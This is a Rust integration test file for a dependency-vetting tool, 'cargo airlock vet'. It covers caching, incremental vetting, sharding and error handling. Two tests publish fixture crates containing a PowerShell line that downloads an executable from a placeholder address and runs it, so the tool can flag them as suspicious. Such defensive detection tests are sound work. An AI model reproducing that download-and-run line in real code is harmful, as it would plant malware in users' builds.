//! `cargo airlock vet --manifest-path` against the loopback sparse registry of `vet.rs`: a
//! workspace of the test's own that depends on fixture crates from it; `--since` an older
//! lockfile or git revision (only what was added is vetted), the verdict cache (a second run
//! builds nothing), `--shard` plus `report merge` (the union of the shards), and bad inputs.

use std::path::{Path, PathBuf};
use std::process::Command;

use serde_json::Value;

use crate::registry_server::{index_path, sha256, Route, DAY};
use crate::support::bin;
use crate::vet::{fixture_command, read_json, run_vet, Fixture, Vet};

/// Shard 1 of 2 by `fuzz --shard`'s hash of `name@version`.
const IN_SHARD_1: &str = "alpha-fmt";
/// Shard 2 of 2.
const IN_SHARD_2: &str = "delta-num";

/// A registry with the two fixture crates and a workspace (`ws/`) that depends on `deps`.
fn workspace(name: &str, deps: &[&str]) -> Fixture {
    let f = Fixture::new(name);
    for krate in [IN_SHARD_1, IN_SHARD_2] {
        f.publish(
            krate,
            "1.0.0",
            "",
            &[("src/lib.rs", "pub fn f(x: u32) -> u32 { x + 1 }\n")],
        );
    }
    std::fs::create_dir_all(f.scene.path("ws/src")).unwrap();
    std::fs::write(f.scene.path("ws/src/lib.rs"), "").unwrap();
    set_deps(&f, deps);
    f
}

/// Rewrites the workspace's manifest with these dependencies from the fixture registry.
fn set_deps(f: &Fixture, deps: &[&str]) {
    let mut manifest = String::from(
        "[package]\nname = \"my-app\"\nversion = \"0.1.0\"\nedition = \"2021\"\n\n[dependencies]\n",
    );
    for d in deps {
        manifest.push_str(&format!(
            "{d} = {{ version = \"1\", registry = \"fixtures\" }}\n"
        ));
    }
    std::fs::write(f.scene.path("ws/Cargo.toml"), manifest).unwrap();
}

/// A command with the fixture's environment (cargo home, registry, CI) in the scene.
fn command(f: &Fixture, program: impl AsRef<std::ffi::OsStr>) -> Command {
    fixture_command(&f.scene, &f.registry, program)
}

/// `cargo airlock vet --manifest-path ws ARGS --cache-dir C --report-dir R`.
fn vet_ws(f: &Fixture, report: &str, args: &[&str]) -> Vet {
    let report_dir = f.scene.path(report);
    let mut cmd = command(f, bin());
    cmd.args(["vet", "--manifest-path", "ws"])
        .args(args)
        .arg("--cache-dir")
        .arg(f.cache())
        .arg("--report-dir")
        .arg(&report_dir);
    run_vet(cmd, report_dir)
}

/// `name: cached` of every crate of the verdict.
fn vetted(run: &Vet) -> Vec<(String, bool)> {
    run.report["verdict"]["crates"]
        .as_array()
        .map(|cs| {
            cs.iter()
                .map(|c| {
                    (
                        c["name"].as_str().unwrap().to_owned(),
                        c["cached"].as_bool().unwrap_or(false),
                    )
                })
                .collect()
        })
        .unwrap_or_default()
}

fn lockfile(f: &Fixture) -> PathBuf {
    let status = command(f, "cargo")
        .args(["generate-lockfile", "--manifest-path", "ws/Cargo.toml"])
        .status()
        .unwrap();
    assert!(status.success());
    f.scene.path("ws/Cargo.lock")
}

fn git(f: &Fixture, args: &[&str]) {
    let out = Command::new("git")
        .args(args)
        .current_dir(f.scene.path("ws"))
        .env("GIT_AUTHOR_NAME", "t")
        .env("GIT_AUTHOR_EMAIL", "t@example.invalid")
        .env("GIT_COMMITTER_NAME", "t")
        .env("GIT_COMMITTER_EMAIL", "t@example.invalid")
        .output()
        .unwrap();
    assert!(out.status.success(), "git {args:?}: {out:?}");
}

#[test]
fn every_third_party_package_is_vetted_once_and_the_second_run_comes_from_the_cache() {
    let f = workspace("vet_ws_cache", &[IN_SHARD_1, IN_SHARD_2]);
    let first = vet_ws(&f, "first", &[]);
    first.expect_code(0);
    assert_eq!(
        vetted(&first),
        [
            (IN_SHARD_1.to_owned(), false),
            (IN_SHARD_2.to_owned(), false)
        ],
        "{}",
        first.stderr
    );
    assert_eq!(first.phase("build")["status"], "ran", "{}", first.stderr);
    // The workspace's own package is not vetted.
    assert!(!first.report["crates"].to_string().contains("my-app"));
    let scope = &first.report["vet"]["workspace"];
    assert_eq!(scope["packages"], 2);
    assert_eq!(scope["selected"], 2);
    assert!(first.report["workspace"].as_str().unwrap().ends_with("ws"));
    let downloads = |f: &Fixture| {
        f.registry
            .log()
            .iter()
            .filter(|(p, _)| p.starts_with("/dl/"))
            .count()
    };
    let downloaded = downloads(&f);

    // Nothing changed: every verdict comes from the cache and nothing is built again.
    std::fs::remove_dir_all(f.cache().join("scratch")).unwrap();
    let second = vet_ws(&f, "second", &[]);
    second.expect_code(0);
    assert_eq!(
        vetted(&second),
        [(IN_SHARD_1.to_owned(), true), (IN_SHARD_2.to_owned(), true)]
    );
    assert!(
        !f.cache().join("scratch").exists(),
        "a scratch workspace was built again"
    );
    assert_eq!(downloads(&f), downloaded, "a .crate was fetched again");
    assert_eq!(second.report["crates"], first.report["crates"]);
    assert!(
        second.stderr.contains("(cached verdict)"),
        "{}",
        second.stderr
    );
    assert!(
        second.stderr.contains("2 from the cache"),
        "{}",
        second.stderr
    );

    // --no-cache vets again.
    let third = vet_ws(
        &f,
        "third",
        &["--no-cache", "--phases", "provenance,inventory"],
    );
    third.expect_code(0);
    assert!(vetted(&third).iter().all(|(_, cached)| !cached));
}

#[test]
fn since_an_older_lockfile_or_revision_vets_only_what_was_added() {
    let f = workspace("vet_ws_since", &[IN_SHARD_1]);
    let old = f.scene.path("old.lock");
    std::fs::copy(lockfile(&f), &old).unwrap();
    git(&f, &["init", "-q"]);
    git(&f, &["add", "Cargo.toml", "Cargo.lock", "src"]);
    git(&f, &["commit", "-qm", "one dependency"]);
    set_deps(&f, &[IN_SHARD_1, IN_SHARD_2]);

    for since in [old.to_str().unwrap(), "HEAD"] {
        let run = vet_ws(
            &f,
            "since",
            &["--since", since, "--phases", "provenance,inventory"],
        );
        run.expect_code(0);
        // The second time, its complete verdict of the first comes from the cache.
        let again = since == "HEAD";
        assert_eq!(vetted(&run), [(IN_SHARD_2.to_owned(), again)], "{since}");
        let scope = &run.report["vet"]["workspace"];
        assert_eq!(scope["unchanged"], 1, "{since}");
        assert_eq!(scope["packages"], 2);
        assert_eq!(scope["since"], since);
        assert!(
            run.stderr.contains(&format!("1 unchanged since {since}")),
            "{}",
            run.stderr
        );
    }
}

#[test]
fn shards_merged_are_the_whole_workspace() {
    let f = workspace("vet_ws_shards", &[IN_SHARD_1, IN_SHARD_2]);
    let phases = ["--phases", "provenance,inventory", "--no-cache"];
    let whole = vet_ws(&f, "whole", &phases);
    whole.expect_code(0);
    let one = vet_ws(&f, "shard-1", &[&phases[..], &["--shard", "1/2"]].concat());
    let two = vet_ws(&f, "shard-2", &[&phases[..], &["--shard", "2/2"]].concat());
    one.expect_code(0);
    two.expect_code(0);
    assert_eq!(vetted(&one), [(IN_SHARD_1.to_owned(), false)]);
    assert_eq!(vetted(&two), [(IN_SHARD_2.to_owned(), false)]);
    assert_eq!(one.report["vet"]["workspace"]["shards"][0], "1/2");

    let merged_dir = f.scene.path("merged");
    let out = command(&f, bin())
        .args(["report", "merge"])
        .arg(one.report_dir.join("report.json"))
        .arg(two.report_dir.join("report.json"))
        .arg("-o")
        .arg(&merged_dir)
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(0), "{out:?}");
    let merged = read_json(&merged_dir.join("report.json"));
    for ext in ["md", "sarif", "html"] {
        assert!(merged_dir.join(format!("report.{ext}")).is_file(), "{ext}");
    }
    assert_eq!(merged["verdict"], whole.report["verdict"]);
    let names = |r: &Value, key: &str| -> Vec<String> {
        let mut n: Vec<String> = r[key]
            .as_array()
            .unwrap()
            .iter()
            .map(|i| format!("{} {}", i["name"], i["version"]))
            .collect();
        n.sort();
        n
    };
    assert_eq!(
        names(&merged, "inventory"),
        names(&whole.report, "inventory")
    );
    assert_eq!(
        names(&merged, "provenance"),
        names(&whole.report, "provenance")
    );
    assert_eq!(merged["vet"]["workspace"]["selected"], 2);
    assert_eq!(
        merged["vet"]["workspace"]["shards"],
        serde_json::json!(["1/2", "2/2"])
    );
}

#[test]
fn bad_inputs_are_exit_2_and_name_what_is_wrong() {
    let f = workspace("vet_ws_bad", &[IN_SHARD_1]);
    // A lockfile that does not exist (the workspace is no git repository either).
    let run = vet_ws(&f, "r1", &["--since", "missing.lock"]);
    run.expect_code(2);
    assert!(run.stderr.contains("`missing.lock`"), "{}", run.stderr);
    // A revision that does not exist.
    git(&f, &["init", "-q"]);
    let run = vet_ws(&f, "r2", &["--since", "no-such-rev"]);
    run.expect_code(2);
    assert!(run.stderr.contains("`no-such-rev`"), "{}", run.stderr);
    // A shard that does not exist.
    let run = vet_ws(&f, "r3", &["--shard", "3/2"]);
    run.expect_code(2);
    assert!(run.stderr.contains("3/2"), "{}", run.stderr);
    // A workspace that does not exist.
    let out = command(&f, bin())
        .args([
            "vet",
            "--manifest-path",
            "nowhere/Cargo.toml",
            "--cache-dir",
        ])
        .arg(f.cache())
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("nowhere"));
    assert!(!f.cache().join("verdicts").exists(), "nothing was vetted");

    // Merging something that is not a report, or nothing that exists.
    let not_report = f.scene.path("notes.json");
    std::fs::write(&not_report, "{\"hello\": 1}").unwrap();
    for (input, needle) in [
        (not_report, "is not an airlock report"),
        (f.scene.path("gone.json"), "cannot read report"),
    ] {
        let out = command(&f, bin())
            .args(["report", "merge"])
            .arg(&input)
            .arg("-o")
            .arg(f.scene.path("merged"))
            .output()
            .unwrap();
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(2), "{stderr}");
        assert!(stderr.contains(needle), "{stderr}");
        assert!(stderr.contains(input.file_name().unwrap().to_str().unwrap()));
    }
    assert!(!f.scene.path("merged").exists());
}

#[test]
fn a_package_whose_vet_failed_is_never_cached() {
    let f = workspace("vet_ws_failed", &[IN_SHARD_1, "half-built"]);
    f.publish(
        "half-built",
        "1.0.0",
        "",
        &[("src/lib.rs", "pub fn f( -> u8 { 1 }\n")],
    );
    for report in ["first", "second"] {
        let run = vet_ws(&f, report, &[]);
        run.expect_code(2);
        let got = vetted(&run);
        assert!(
            got.contains(&("half-built".to_owned(), false)),
            "{report}: {got:?}"
        );
        assert!(run.stderr.contains("failed on its own"), "{}", run.stderr);
    }
    // The clean one was cached after the first run.
    let again = vet_ws(&f, "third", &[]);
    assert!(vetted(&again).contains(&(IN_SHARD_1.to_owned(), true)));
}

#[test]
fn a_git_dependency_is_inventoried_and_built_without_provenance() {
    let f = workspace("vet_ws_git", &[]);
    let repo = f.scene.path("git-dep");
    std::fs::create_dir_all(repo.join("src")).unwrap();
    std::fs::write(
        repo.join("Cargo.toml"),
        "[package]\nname = \"git-dep\"\nversion = \"0.3.0\"\nedition = \"2021\"\n",
    )
    .unwrap();
    std::fs::write(
        repo.join("src/lib.rs"),
        "pub fn home() -> Option<std::ffi::OsString> { std::env::var_os(\"HOME\") }\n",
    )
    .unwrap();
    for args in [
        &["init", "-q"][..],
        &["add", "."],
        &["commit", "-qm", "git dependency"],
    ] {
        let out = Command::new("git")
            .args(args)
            .current_dir(&repo)
            .env("GIT_AUTHOR_NAME", "t")
            .env("GIT_AUTHOR_EMAIL", "t@example.invalid")
            .env("GIT_COMMITTER_NAME", "t")
            .env("GIT_COMMITTER_EMAIL", "t@example.invalid")
            .output()
            .unwrap();
        assert!(out.status.success(), "{out:?}");
    }
    let manifest = f.scene.path("ws/Cargo.toml");
    let mut text = std::fs::read_to_string(&manifest).unwrap();
    text.push_str(&format!(
        "git-dep = {{ git = \"file://{}\" }}\n",
        repo.display()
    ));
    std::fs::write(&manifest, text).unwrap();
    let run = vet_ws(&f, "report", &[]);
    run.expect_code(0);
    assert_eq!(
        vetted(&run),
        [("git-dep".to_owned(), false)],
        "{}",
        run.stderr
    );
    let provenance = run.phase("provenance");
    assert_eq!(provenance["status"], "skipped");
    assert!(provenance["reason"]
        .as_str()
        .unwrap()
        .contains("git package"));
    assert_eq!(run.report["inventory"][0]["name"], "git-dep");
    assert!(run.report["inventory"][0]["capabilities"]["env"].is_object());
    assert_eq!(run.phase("build")["status"], "ran", "{}", run.stderr);
    let load = run.phase("load");
    assert_eq!(load["status"], "skipped");
    assert!(load["reason"]
        .as_str()
        .unwrap()
        .contains("registry packages only"));
    let built = run.report["crates"].as_array().unwrap();
    assert!(
        built
            .iter()
            .any(|c| c["name"] == "git-dep" && c["source"] == "git"),
        "{built:#?}"
    );
    // A git package pinned by its commit is cached like a registry one.
    let again = vet_ws(&f, "again", &[]);
    assert_eq!(vetted(&again), [("git-dep".to_owned(), true)]);
}

#[test]
fn the_ci_workflow_uses_only_flags_the_commands_have() {
    let doc =
        std::fs::read_to_string(Path::new(env!("CARGO_MANIFEST_DIR")).join("docs/ci.md")).unwrap();
    let mut checked = 0;
    for (command, help_args) in [
        ("cargo airlock vet ", &["vet", "--help"][..]),
        (
            "cargo airlock report merge ",
            &["report", "merge", "--help"],
        ),
    ] {
        let help = Command::new(bin()).args(help_args).output().unwrap();
        let help = String::from_utf8_lossy(&help.stdout).into_owned();
        for line in doc.lines().filter(|l| l.contains(command)) {
            for flag in line.split_whitespace().filter(|w| w.starts_with("--")) {
                assert!(
                    help.contains(flag),
                    "{flag} of `{line}` is not in {help_args:?}"
                );
                checked += 1;
            }
        }
    }
    assert!(checked >= 6, "the workflow's commands were not found");
}

#[test]
fn a_suspicious_dependency_is_judged_on_its_own_and_fails_the_workspace() {
    let f = workspace("vet_ws_suspicious", &[]);
    let payload = "#[cfg(windows)]\npub fn init() {\n    let _ = std::process::Command::new(\"powershell\")\n        .args([\"-Command\", \"iwr http://203.0.113.7:8443/p.exe -OutFile p.exe; ./p.exe\"])\n        .spawn();\n}\n";
    f.publish("quiet-helper", "0.1.3", "", &[("src/lib.rs", payload)]);
    // `nice-wrapper` 1.0.0 depends on it, in its index line and its manifest.
    let index = f.registry.index_url();
    let manifest = format!(
        "[dependencies]\nquiet-helper = {{ version = \"0.1\", registry-index = \"{index}\" }}"
    );
    let krate = crate::vet::crate_file(
        "nice-wrapper",
        "1.0.0",
        &manifest,
        &[("src/lib.rs", "pub fn wrap() {}\n")],
    );
    let pubtime = humantime::format_rfc3339_seconds(std::time::SystemTime::now() - 300 * DAY);
    let line = format!(
        r#"{{"name":"nice-wrapper","vers":"1.0.0","deps":[{{"name":"quiet-helper","req":"^0.1","features":[],"optional":false,"default_features":true,"target":null,"kind":"normal","registry":null}}],"cksum":"{}","features":{{}},"yanked":false,"links":null,"pubtime":"{pubtime}"}}"#,
        sha256(&krate)
    );
    f.registry
        .route(&index_path("nice-wrapper"), Route::Body(line.into_bytes()));
    f.registry
        .route("/dl/nice-wrapper/1.0.0/download", Route::Body(krate));
    set_deps(&f, &["nice-wrapper"]);

    let run = vet_ws(&f, "report", &["--phases", "provenance,inventory"]);
    run.expect_code(1);
    let crates = &run.report["verdict"]["crates"];
    assert_eq!(crates[0]["name"], "nice-wrapper", "{crates:#}");
    assert_eq!(crates[0]["verdict"], "clean", "{crates:#}");
    assert_eq!(crates[1]["name"], "quiet-helper");
    assert_eq!(crates[1]["verdict"], "suspicious");
    let inventoried: Vec<&str> = run.report["inventory"]
        .as_array()
        .unwrap()
        .iter()
        .map(|i| i["name"].as_str().unwrap())
        .collect();
    assert_eq!(inventoried, ["nice-wrapper", "quiet-helper"]);
    assert!(
        run.stderr.contains("airlock vet: SUSPICIOUS"),
        "{}",
        run.stderr
    );
}

#[test]
fn a_dependency_of_other_platforms_only_is_read_though_it_cannot_run_here() {
    let f = workspace("vet_ws_other_platform", &[]);
    // The payload of a crate used only on Windows: never compiled on this host, still in its
    // source. (The address is documentation's; nothing here runs it.)
    let payload = "pub fn init() {\n    let _ = std::process::Command::new(\"powershell\")\n        .args([\"-Command\", \"iwr http://203.0.113.7:8443/p.exe -OutFile p.exe\"])\n        .spawn();\n}\n";
    f.publish("win-helper", "0.1.3", "", &[("src/lib.rs", payload)]);
    std::fs::write(
        f.scene.path("ws/Cargo.toml"),
        "[package]\nname = \"my-app\"\nversion = \"0.1.0\"\nedition = \"2021\"\n\n\
         [target.'cfg(windows)'.dependencies]\n\
         win-helper = { version = \"0.1\", registry = \"fixtures\" }\n",
    )
    .unwrap();

    let run = vet_ws(
        &f,
        "report",
        &["--phases", "provenance,inventory,build,load"],
    );
    run.expect_code(1);
    assert_eq!(vetted(&run), [("win-helper".to_owned(), false)]);
    assert_eq!(run.report["verdict"]["crates"][0]["verdict"], "suspicious");
    assert_eq!(run.report["inventory"][0]["name"], "win-helper");
    for phase in ["build", "load"] {
        let record = run.phase(phase);
        assert_eq!(record["status"], "skipped", "{phase}: {record:#}");
        assert!(
            record["reason"]
                .as_str()
                .unwrap()
                .contains("other platforms only"),
            "{phase}: {record:#}"
        );
    }
    // Nothing of it was built.
    assert!(run.report["crates"]
        .as_array()
        .is_none_or(|cs| cs.iter().all(|c| c["name"] != "win-helper")));
}
